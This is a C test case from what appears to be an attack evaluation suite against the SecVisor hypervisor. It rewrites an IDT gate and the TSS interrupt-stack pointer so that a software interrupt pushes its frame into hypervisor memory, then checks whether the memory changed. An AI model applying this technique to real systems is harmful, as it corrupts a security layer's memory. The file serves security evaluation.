// Row 24. A fault during event delivery: a gate's interrupt stack leads to SecVisor's memory.
// Source: threat table: events delivered where nothing can be pushed.
// Ends: against a SecVisor that is not hidden succeeded: the frame is pushed over its memory; beneath SecVisor the delivery is a double fault, by which Linux panics; hypervisor-memory.
#include "common/attack.h"
#include <string.h>

ATTACK("delivery-hypervisor")
{
	// Among the bytes of modules' pages that SecVisor keeps, which nobody needs now.
	u64 window = map_physical(hypervisor() + (20ull << 20), KERNEL_DATA), top = window + 0x800, before[5], after[5];
	struct tables found = tables();
	u8 gate[16];
	long result;

	kread(found.idt + 0x80 * 16, gate, sizeof(gate));
	gate[4] = 7;
	poke_bytes(found.idt + 0x81 * 16, gate, sizeof(gate));
	poke_bytes(found.tss + 0x24 + 6 * 8, &top, 8);
	kread(top - 40, before, sizeof(before));
	about_to("take an interrupt on a stack that is SecVisor's memory");
	__asm__ volatile("int $0x81" : "=a"(result) : "a"(20) : "rbx", "r8", "r9", "r10", "r11", "memory", "cc");
	kread(top - 40, after, sizeof(after));
	for (unsigned i = 0; i < 5; i++)
		operate(VULNERABLE_STORE, top - 40 + 8 * i, before[i], 8);
	if (memcmp(before, after, sizeof(before)) && after[1] == 0x33)
		succeeded("an interrupt's frame lies in SecVisor's memory");
	failed("nothing was written");
}
